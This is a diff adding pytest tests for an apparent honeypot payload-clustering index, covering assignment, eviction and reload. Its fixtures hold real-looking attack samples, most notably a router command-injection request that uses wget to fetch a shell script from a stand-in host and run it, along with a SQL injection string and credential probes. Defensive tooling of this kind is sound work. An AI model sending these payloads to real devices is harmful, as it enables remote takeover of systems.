@@ -0,0 +1,98 @@
+"""
+Payload cluster tests - assignment, eviction and reload of evicted clusters
+
+Usage:
+    python -m pytest -q tests/test_payload_clusters.py
+"""
+import os
+import sys
+
+sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+
+from payload_clusters import ClusterIndex, normalize
+
+BASE = 1700000000.0
+
+EXPLOIT = ("GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget http://{ip}/x.sh "
+           "-O /tmp/{tag}; sh /tmp/{tag}) HTTP/1.1\r\nHost: {ip}:80\r\nUser-Agent: Mozilla/5.0\r\n\r\n")
+OTHER = ["SSH-2.0-Go\r\n", "USER admin\r\nPASS {n}\r\nSYST\r\n", "*1\r\n$4\r\nINFO\r\n",
+         "GET /.env HTTP/1.1\r\nHost: x\r\n\r\n", "SELECT * FROM users WHERE id = {n} OR 1=1 --"]
+
+
+def exploit(n):
+    return EXPLOIT.format(ip=f"203.0.113.{n % 250}", tag=f"a8f3c2d1e9b7{n:04d}")
+
+
+def test_normalize_masks_addresses_and_tokens():
+    assert normalize(exploit(1)) == normalize(exploit(2))
+
+
+def test_variants_share_a_cluster_and_different_payloads_do_not():
+    index = ClusterIndex()
+    ids = {index.assign({'payload': exploit(n)}, now=BASE + n) for n in range(20)}
+    assert len(ids) == 1
+    others = {index.assign({'payload': p.format(n=7)}, now=BASE) for p in OTHER}
+    assert len(others) == len(OTHER) and not others & ids
+    (cluster_id,) = ids
+    assert index.clusters[cluster_id].events == 20
+
+
+def test_events_without_payload_are_not_clustered():
+    index = ClusterIndex()
+    assert index.assign({'payload': ''}) is None
+    assert index.assign({'payload': '   \r\n'}) is None
+    assert len(index) == 0
+
+
+def test_eviction_drops_the_least_recently_seen_cluster_and_its_buckets():
+    index = ClusterIndex(max_clusters=2)
+    first = index.assign({'payload': OTHER[0]}, now=BASE)
+    index.assign({'payload': OTHER[2]}, now=BASE + 1)
+    index.assign({'payload': OTHER[0]}, now=BASE + 2)  # first is now the most recent
+    index.assign({'payload': OTHER[3]}, now=BASE + 3)
+    assert first in index.clusters and len(index) == 2
+    assert set(index.buckets.values()) == set(index.clusters)
+
+
+def test_evicted_cluster_is_reloaded_and_keeps_counting():
+    rows = {}
+    index = ClusterIndex(max_clusters=1, loader=rows.get)
+    evicted = index.assign({'payload': OTHER[0], 'service': 'SSH'}, now=BASE)
+    index.assign({'payload': OTHER[0], 'service': 'SSH'}, now=BASE + 1)
+    index.assign({'payload': OTHER[3]}, now=BASE + 2)
+    assert evicted not in index.clusters
+    for _ in range(2):  # the second drain empties _flushing, so only the stored row is left
+        rows.update((row[0], row) for row in index.drain_dirty())
+
+    assert index.assign({'payload': OTHER[0], 'service': 'SSH'}, now=BASE + 3) == evicted
+    cluster = index.clusters[evicted]
+    assert cluster.events == 3 and cluster.services['SSH'] == 3 and cluster.first_seen == BASE
+
+
+def test_unflushed_cluster_is_reloaded_without_the_loader():
+    index = ClusterIndex(max_clusters=1)
+    evicted = index.assign({'payload': OTHER[0]}, now=BASE)
+    index.assign({'payload': OTHER[3]}, now=BASE + 1)
+    assert index.assign({'payload': OTHER[0]}, now=BASE + 2) == evicted
+    assert index.clusters[evicted].events == 2
+
+
+def test_load_rows_restores_assignment():
+    index = ClusterIndex()
+    cluster_id = index.assign({'payload': exploit(1)}, now=BASE)
+    restored = ClusterIndex()
+    restored.load_rows(index.drain_dirty())
+    assert restored.assign({'payload': exploit(2)}, now=BASE + 1) == cluster_id
+    assert restored.clusters[cluster_id].events == 2
+
+
+def test_drift_buckets_are_capped_and_founding_buckets_kept():
+    index = ClusterIndex(max_keys=20, drift=1.01)
+    cluster_id = index.assign({'payload': exploit(0)}, now=BASE)
+    founding = list(index.clusters[cluster_id].keys)
+    for n in range(1, 50):
+        index.assign({'payload': exploit(n) + f"X-Req: {'ab'[n % 2]}{'cd'[n // 2 % 2]}{'ef'[n // 4 % 2]}\r\n"},
+                     now=BASE + n)
+    cluster = index.clusters[cluster_id]
+    assert cluster.events == 50 and len(cluster.keys) == 20 and cluster.keys[:len(founding)] == founding
+    assert all(index.buckets[key] == cluster_id for key in cluster.keys)